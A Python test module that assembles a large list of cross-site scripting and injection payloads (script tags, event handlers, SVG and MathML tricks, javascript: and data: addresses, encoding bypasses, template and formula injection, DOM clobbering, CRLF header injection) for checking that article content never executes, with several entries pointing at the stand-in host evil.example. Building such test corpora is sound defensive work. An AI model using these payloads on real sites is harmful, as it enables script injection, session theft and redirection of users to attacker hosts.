"""What could an article hold that must never run?

`PAYLOADS` are distinct texts, each of which sets `window.__pwned` if a page takes it for markup, script or
an address. Most were shaped after what sanitizers and template engines got wrong; the rest is made by
breaking out of each place in which a page of ours puts a text.
"""

RUN = "window.__pwned=1"

SCRIPTS = [
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script >RUN</script >", "<script\n>RUN</script>",
    "<script/x>RUN</script>", "<script type=module>RUN</script>", "<script async>RUN</script>",
    "<script type='text/javascript'>RUN;//</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script>RUN", "<script>RUN//", "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,RUN></script>", "<script>/*<!--*/RUN//--></script>",
    "<script\x0b>RUN</script>", "<script>`${RUN}`</script>", "<\x00script>RUN</script>",
    "<script src=/api/export?q=RUN></script>", "<script type=importmap>{\"imports\":{}}</script>",
]

HANDLERS = [
    "<img src=x onerror=RUN>", "<img src=x onerror='RUN'>", '<img src="x" onerror="RUN">',
    "<img/src=x/onerror=RUN>", "<IMG SRC=x ONERROR=RUN>", "<img src=x onerror=RUN//",
    "<img src=x oNeRrOr=RUN >", "<img src=x:x onerror\n=\nRUN>", "<img src=x onerror\x0c=RUN>",
    "<img srcset=x onerror=RUN>", "<image src=x onerror=RUN>", "<img src=1 onload=RUN onerror=RUN>",
    "<picture><source srcset=x><img onerror=RUN src=y>", "<body onload=RUN>", "<body onpageshow=RUN>",
    "<body onhashchange=RUN><a href=#x>x</a>", "<frameset onload=RUN>", "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN>x</button>", "<a tabindex=1 autofocus onfocus=RUN>x</a>",
    "<details open ontoggle=RUN>x</details>", "<video src=x onerror=RUN>", "<video><source onerror=RUN>",
    "<audio src=x onerror=RUN>", "<marquee onstart=RUN>x</marquee>", "<object data=x onerror=RUN>",
    "<embed src=x onload=RUN>", "<link rel=stylesheet href=x onerror=RUN>", "<style onload=RUN></style>",
    "<p style=animation-name:x onanimationstart=RUN>x", "<div onpointerover=RUN>x</div>",
    "<b onmouseover=RUN>x</b>", "<iframe onload=RUN></iframe>", "<isindex type=image src=1 onerror=RUN>",
    "<meter onmouseover=RUN>0</meter>", "<dialog open oncancel=RUN>x</dialog>",
    "<div onbeforematch=RUN hidden=until-found>x</div>", "<x contenteditable onblur=RUN>x",
    "<input type=image src=x onerror=RUN>", "<table background=x onload=RUN>",
]

OTHER_MARKUP = [
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>",
    "<svg><script href=data:,RUN />", "<svg><script>&#119;indow.__pwned=1</script>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set attributeName=onload to=RUN>",
    "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "<math><mi href=javascript:RUN>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=RUN>'>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><img src=x onerror=RUN></template>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.__pwned=1></iframe>",
    "<iframe src=data:text/html,<script>RUN</script>></iframe>", "<object data=javascript:RUN></object>",
    "<object data='data:text/html,<script>RUN</script>'></object>", "<embed src=javascript:RUN>",
    "<portal src=javascript:RUN></portal>", "<form action=javascript:RUN><button>x</button></form>",
    "<form><button formaction=javascript:RUN>x</button></form>",
    "<form action=//evil.example><input name=q></form>",
    "<input form=x formaction=//evil.example type=submit>", "<base href=//evil.example/>",
    "<base target=_blank>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=content-security-policy content=''>", "<meta charset=utf-7>",
    "<link rel=import href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>", "<link rel=manifest href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:RUN)'>x", "<p style=width:expression(RUN)>x", "<plaintext>RUN",
    "<xmp><img src=x onerror=RUN></xmp>", "<a href=javascript:RUN>x</a>", "<a href=' javascript:RUN'>x</a>",
    "<a href='java\nscript:RUN'>x</a>", "<a href=//evil.example target=_blank>x</a>",
    "<area href=javascript:RUN>", "<a ping=//evil.example href=x>x</a>",
]

ADDRESSES = [
    "javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\tjavascript:RUN", "java\tscript:RUN",
    "java\nscript:RUN", "\x01javascript:RUN", "javascript\\x3aRUN", "javascript&colon;RUN",
    "&#106;avascript:RUN", "javascript:%77indow.__pwned=1", "javascript://https://x.example/%0aRUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload='RUN'/>", "vbscript:RUN", "file:///etc/passwd#RUN",
    "blob:http://127.0.0.1/RUN", "view-source:javascript:RUN", "//evil.example/RUN",
    "\\\\evil.example\\RUN", "/\\evil.example/RUN", "http:evil.example/RUN", "https:javascript:RUN",
    "http://\"onmouseover=RUN x=\"", "https://evil.example/\"><img src=x onerror=RUN>",
    "https://evil.example/'onfocus='RUN'autofocus='", "http://user:pass@evil.example/RUN",
    "https://evil.example/\njavascript:RUN", "HTTPS://evil.example/<svg onload=RUN>",
    "http://evil.example\\@127.0.0.1/RUN", "feed:javascript:RUN", "about:blank#RUN",
    "../../../assets/app.js?RUN",
]

CHARACTERS = [
    "＜script＞RUN＜/script＞", "‹img src=x onerror=RUN›", "\u02c2img src=x onerror=RUN\u02c3",
    "<ſcript>RUN</ſcript>", "\u2028RUN\u2028", "\u2029RUN//", "a\x00<img src=x onerror=RUN>",
    "<img\x00 src=x onerror=RUN>", "\ufeff<svg onload=RUN>", "\u202e>NUR=daolno gvs<",
    "\u2066<img src=x onerror=RUN>\u2069", "\u200f\u202b<b onclick=RUN>x",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-", "\x1b[31m<img src=x onerror=RUN>",
    "\x7f<svg onload=RUN>\x80\x9f", "\ufffe<svg onload=RUN>\uffff", "<\u0301img src=x onerror=RUN>",
    "%3Cimg src=x onerror=RUN%3E", "%253Cscript%253ERUN%253C/script%253E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cimg src=x onerror=RUN\\x3e",
    "&lt;script&gt;RUN&lt;/script&gt;", "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "&#60;img src=x onerror=RUN&#62;", "&#x3c;svg onload=RUN&#x3e;", "&ltimg src=x onerror=RUN&gt",
    "&Tab;&NewLine;RUN&lpar;&rpar;", "\u00bcscript\u00beRUN\u00bc/script\u00be",
    "\U0001f600<img src=x onerror=RUN>", "\r\nSet-Cookie: pwned=1\r\n\r\n<script>RUN</script>",
    "%0d%0aLocation:%20javascript:RUN", "\u3000<svg\u3000onload=RUN>",
]

TEMPLATES = [
    "{{constructor.constructor('RUN')()}}", "{{RUN}}", "${RUN}", "#{RUN}", "<%= RUN %>", "{%RUN%}",
    "[[RUN]]", "@(RUN)", "{RUN}", "*{RUN}", "<!--#exec cmd=RUN-->", "<?php RUN ?>", "(@html RUN)",
    "((RUN))", "`RUN`", "';RUN;'", '";RUN;"', "');RUN;//", "\\';RUN;//", "</script><script>RUN</script>",
    "[x](javascript:RUN)", "![x](x' onerror='RUN)", "<javascript:RUN>", "[x]: javascript:RUN",
    "**<img src=x onerror=RUN>**", "```\n<img src=x onerror=RUN>\n```", "|<img src=x onerror=RUN>|",
    "# <svg onload=RUN>", "=HYPERLINK(\"javascript:RUN\")", "@SUM(1+1)*cmd|' /C RUN'!A0",
    "[b onmouseover=RUN]x[/b]", "<<img src=x onerror=RUN>>", "<![CDATA[<img src=x onerror=RUN>]]>",
    "]]><img src=x onerror=RUN>", "<!--><img src=x onerror=RUN>-->", "<!-- --!><img src=x onerror=RUN>",
    "<!--<img src='--><img src=x onerror=RUN>'>", "<? RUN ?>", "<!DOCTYPE x [<!ENTITY e 'RUN'>]>&e;",
    "<?xml-stylesheet href='javascript:RUN'?>", "<![endif]--><img src=x onerror=RUN>",
    "<!--[if IE]><script>RUN</script><![endif]-->",
]

# Names that a script may find where it looks for something else.
CLOBBERING = [
    "<a id=__pwned>x</a>", "<form id=document><input name=body></form>", "<img name=querySelector>",
    "<a id=q>x</a>", "<form id=field><input id=form name=form></form>", "<input id=understood>",
    "<a id=defaultView><a id=defaultView name=__pwned href=RUN>", "__proto__", "constructor",
    "__proto__[__pwned]=1", "constructor[prototype][__pwned]=1", "__defineGetter__", "toString",
    "hasOwnProperty", "id=q", "match-1", "main", "<textarea class=citation>RUN</textarea>",
    "<article class=hit><h2><a href=javascript:RUN>x</a></h2></article>",
]

# What closes the place in which a text stands, and what would then run.
CLOSING = [
    '"', "'", "`", '">', "'>", "--></title>", "</textarea>", "</style>", "</option></select>", "</mark>",
    "</a>", "</code>", "</bdi></li></ul>", "</svg>", "</th></tr></table>", "</blockquote></figure>",
    "</body></html>", "</noscript>", "\\\"", "\\'", "&quot;>", "\n\">", "\x00\">",
    "</summary></entry></feed>",
]
OPENED = ["<img src=x onerror=RUN>", " onfocus=RUN autofocus x=", "<script>RUN</script>"]


def made():
    groups = [SCRIPTS, HANDLERS, OTHER_MARKUP, ADDRESSES, CHARACTERS, TEMPLATES, CLOBBERING]
    for group in groups:
        yield from group
    for closing in CLOSING:
        for opened in OPENED:
            yield closing + opened


PAYLOADS = [text.replace("RUN", RUN) for text in made()]
assert len(set(PAYLOADS)) == len(PAYLOADS), "a payload stands twice"
assert len(PAYLOADS) >= 200, "too few payloads"
